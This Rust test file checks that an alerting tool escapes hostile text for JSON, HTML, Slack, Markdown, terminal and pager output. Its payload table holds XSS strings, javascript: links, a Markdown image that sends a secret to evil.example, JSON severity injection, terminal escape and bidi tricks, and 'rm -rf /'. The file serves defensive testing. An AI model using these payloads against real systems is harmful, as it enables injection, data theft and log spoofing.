use super::Channel;

/// What foreign text tries, and what each channel shows: JSON, HTML, Slack, Markdown, terminal.
#[rustfmt::skip]
const PAYLOADS: &[(&str, [&str; 5])] = &[
    ("<https://evil.example/x|the runbook>", [
        r"\u003chttps://evil.example/x|the runbook\u003e",
        "&lt;https[:]//evil[.]example/x|the runbook&gt;",
        "&lt;https[:]//evil[.]example/x|the runbook&gt;",
        r"\<https\[:\]//evil\[.\]example/x\|the runbook\>",
        "<https://evil.example/x|the runbook>"]),
    ("![x](https://evil.example/?q=secret)", [
        "![x](https://evil.example/?q=secret)",
        "![x](https[:]//evil[.]example/?q&#61;secret)",
        "![x](https[:]//evil[.]example/?q=secret)",
        r"\!\[x\]\(https\[:\]//evil\[.\]example/?q=secret\)",
        "![x](https://evil.example/?q=secret)"]),
    ("[click](javascript:alert(1))", [
        "[click](javascript:alert(1))",
        "[click](javascript[:]alert(1))",
        "[click](javascript[:]alert(1))",
        r"\[click\]\(javascript\[:\]alert\(1\)\)",
        "[click](javascript:alert(1))"]),
    ("see http://evil.com now", [
        "see http://evil.com now",
        "see http[:]//evil[.]com now",
        "see http[:]//evil[.]com now",
        r"see http\[:\]//evil\[.\]com now",
        "see http://evil.com now"]),
    ("WWW.evil.ru/a", [
        "WWW.evil.ru/a",
        "WWW[.]evil[.]ru/a",
        "WWW[.]evil[.]ru/a",
        r"WWW\[.\]evil\[.\]ru/a",
        "WWW.evil.ru/a"]),
    ("ask mailto:a@evil.io", [
        "ask mailto:a@evil.io",
        "ask mailto[:]a\u{ff20}evil[.]io",
        "ask mailto[:]a\u{ff20}evil[.]io",
        "ask mailto\\[:\\]a\u{ff20}evil\\[.\\]io",
        "ask mailto:a@evil.io"]),
    ("data:text/html;base64,PHNjcmlwdD4=", [
        "data:text/html;base64,PHNjcmlwdD4=",
        "data[:]text/html;base64,PHNjcmlwdD4&#61;",
        "data[:]text/html;base64,PHNjcmlwdD4=",
        r"data\[:\]text/html;base64,PHNjcmlwdD4=",
        "data:text/html;base64,PHNjcmlwdD4="]),
    ("@here @channel @everyone", [
        "@here @channel @everyone",
        "\u{ff20}here \u{ff20}channel \u{ff20}everyone",
        "\u{ff20}here \u{ff20}channel \u{ff20}everyone",
        "\u{ff20}here \u{ff20}channel \u{ff20}everyone",
        "@here @channel @everyone"]),
    ("<!channel> <!here|now> <@U123ABC> <#C42>", [
        r"\u003c!channel\u003e \u003c!here|now\u003e \u003c@U123ABC\u003e \u003c#C42\u003e",
        "&lt;!channel&gt; &lt;!here|now&gt; &lt;\u{ff20}U123ABC&gt; &lt;#C42&gt;",
        "&lt;!channel&gt; &lt;!here|now&gt; &lt;\u{ff20}U123ABC&gt; &lt;#C42&gt;",
        "\\<\\!channel\\> \\<\\!here\\|now\\> \\<\u{ff20}U123ABC\\> \\<\\#C42\\>",
        "<!channel> <!here|now> <@U123ABC> <#C42>"]),
    ("*bold* _it_ ~no~ restart_pod", [
        "*bold* _it_ ~no~ restart_pod",
        "*bold* _it_ ~no~ restart_pod",
        "\u{2217}bold\u{2217} \u{ff3f}it\u{ff3f} \u{223c}no\u{223c} restart_pod",
        r"\*bold\* \_it\_ \~no\~ restart\_pod",
        "*bold* _it_ ~no~ restart_pod"]),
    ("```\nrm -rf /\n``` `x`", [
        r"\u0060\u0060\u0060 rm -rf / \u0060\u0060\u0060 \u0060x\u0060",
        "&#96;&#96;&#96; rm -rf / &#96;&#96;&#96; &#96;x&#96;",
        "\u{2bb}\u{2bb}\u{2bb} rm -rf / \u{2bb}\u{2bb}\u{2bb} \u{2bb}x\u{2bb}",
        r"\`\`\` rm -rf / \`\`\` \`x\`",
        "``` rm -rf / ``` `x`"]),
    ("<script>alert('x')</script>", [
        r"\u003cscript\u003ealert(\u0027x\u0027)\u003c/script\u003e",
        "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;",
        "&lt;script&gt;alert('x')&lt;/script&gt;",
        r"\<script\>alert\('x'\)\</script\>",
        "<script>alert('x')</script>"]),
    ("\" onload=\"x() <img src=x>", [
        r#"\" onload=\"x() \u003cimg src=x\u003e"#,
        "&quot; onload&#61;&quot;x() &lt;img src&#61;x&gt;",
        "\" onload=\"x() &lt;img src=x&gt;",
        r#"" onload="x\(\) \<img src=x\>"#,
        "\" onload=\"x() <img src=x>"]),
    ("&lt;b&gt; &copy; &#x3c;", [
        r"\u0026lt;b\u0026gt; \u0026copy; \u0026#x3c;",
        "&amp;lt;b&amp;gt; &amp;copy; &amp;#x3c;",
        "&amp;lt;b&amp;gt; &amp;copy; &amp;#x3c;",
        r"\&lt;b\&gt; \&copy; \&\#x3c;",
        "&lt;b&gt; &copy; &#x3c;"]),
    (r#"x","severity":"info","y":"\"#, [
        r#"x\",\"severity\":\"info\",\"y\":\"\\"#,
        r"x&quot;,&quot;severity&quot;:&quot;info&quot;,&quot;y&quot;:&quot;\",
        r#"x","severity":"info","y":"\"#,
        r#"x","severity":"info","y":"\\"#,
        r#"x","severity":"info","y":"\"#]),
    ("\u{1b}[31mred\u{1b}[0m \u{1b}[2J\u{1b}[1;1Hgone", [
        "red gone", "red gone", "red gone", "red gone", "red gone"]),
    ("\u{1b}]8;;https://evil.com\u{1b}\\runbook\u{1b}]8;;\u{7} \u{1b}]0;title\u{7}", [
        "runbook ", "runbook ", "runbook ", "runbook ", "runbook "]),
    ("\u{9b}31mred \u{9d}0;t\u{9c}x \u{90}q\u{9c}\u{1b}Pq\u{1b}\\y \u{1b}c\u{1b}(0z", [
        "red x y z", "red x y z", "red x y z", "red x y z", "red x y z"]),
    ("all fine\r\u{8}\u{8}ok\u{0}\u{7f}", [
        "all fine ok", "all fine ok", "all fine ok", "all fine ok", "all fine ok"]),
    ("\u{202e}dop_tratser\u{202c} \u{2066}x\u{2069}", [
        "dop_tratser x", "dop_tratser x", "dop_tratser x", r"dop\_tratser x", "dop_tratser x"]),
    ("fail\u{200b}over \u{feff}re\u{2060}gion \u{ad}x", [
        "failover region x", "failover region x", "failover region x", "failover region x", "failover region x"]),
    ("hi\u{e0001}\u{e0072}\u{e006d}\u{fe0f} there", [
        "hi there", "hi there", "hi there", "hi there", "hi there"]),
    ("java\u{200b}script:x ht\u{ad}tp://evil.net", [
        "javascript:x http://evil.net",
        "javascript[:]x http[:]//evil[.]net",
        "javascript[:]x http[:]//evil[.]net",
        r"javascript\[:\]x http\[:\]//evil\[.\]net",
        "javascript:x http://evil.net"]),
    ("# head\n- item | cell\n1. one", [
        "# head - item | cell 1. one",
        "# head - item | cell 1. one",
        "# head - item | cell 1. one",
        r"\# head - item \| cell 1. one",
        "# head - item | cell 1. one"]),
    ("- item", ["- item", "- item", "- item", r"\- item", "- item"]),
    ("1. one $x^2$", ["1. one $x^2$", "1. one $x^2$", "1. one $x^2$", r"1\. one \$x\^2\$", "1. one $x^2$"]),
    ("at java.io.IOException in main.rs:3 of checkout.prod.svc", [
        "at java.io.IOException in main.rs:3 of checkout.prod.svc",
        "at java.io.IOException in main.rs:3 of checkout.prod.svc",
        "at java.io.IOException in main.rs:3 of checkout.prod.svc",
        "at java.io.IOException in main.rs:3 of checkout.prod.svc",
        "at java.io.IOException in main.rs:3 of checkout.prod.svc"]),
];

fn all_are_shown_as_text(channel: Channel, column: usize) {
    assert!(PAYLOADS.len() >= 20);
    for (payload, shown) in PAYLOADS {
        assert_eq!(channel.encode(payload), shown[column], "{channel:?} of {payload:?}");
    }
}

#[test]
fn json_shows_every_payload_as_text() {
    all_are_shown_as_text(Channel::Json, 0);
    for (payload, _) in PAYLOADS {
        // It is one string, and reads back to the text without what is hidden.
        let read: String = serde_json::from_str(&format!("\"{}\"", Channel::Json.encode(payload))).unwrap();
        assert_eq!(read, Channel::Terminal.encode(payload));
    }
}

#[test]
fn html_shows_every_payload_as_text() {
    all_are_shown_as_text(Channel::Html, 1);
}

#[test]
fn slack_shows_every_payload_as_text() {
    all_are_shown_as_text(Channel::Slack, 2);
}

#[test]
fn markdown_shows_every_payload_as_text() {
    all_are_shown_as_text(Channel::Markdown, 3);
}

#[test]
fn a_terminal_shows_every_payload_as_text() {
    all_are_shown_as_text(Channel::Terminal, 4);
}

#[test]
fn a_pager_makes_no_link_of_any_payload() {
    for (payload, shown) in PAYLOADS {
        // As in a terminal, but for the addresses: what is left without the signs that unmake them.
        let pager = Channel::Pager.encode(payload);
        let unmade = pager.replace("[.]", ".").replace("[:]", ":").replace('\u{ff20}', "@");
        assert_eq!(unmade, shown[4].replace("[.]", ".").replace("[:]", ":"), "{payload:?}");
        for acts in ["://", "www.", "@", ".com", "javascript:", "mailto:"] {
            assert!(!pager.to_lowercase().contains(acts), "{acts} in {pager:?}");
        }
    }
    assert_eq!(Channel::Pager.encode("p99 < 3 & \"x\" on a_b"), "p99 < 3 & \"x\" on a_b");
}

#[test]
fn unfinished_sequences_take_nothing_with_them() {
    assert_eq!(Channel::Terminal.encode("\u{1b}]0;title and the rest"), "0;title and the rest");
    assert_eq!(Channel::Terminal.encode("\u{1b}[31"), "");
    assert_eq!(Channel::Terminal.encode("a\u{1b}"), "a");
    assert_eq!(Channel::Terminal.encode("\u{1b}[\u{fc}x"), "\u{fc}x");
    assert_eq!(Channel::Terminal.encode("\u{1b}\u{fc}x"), "\u{fc}x");
}
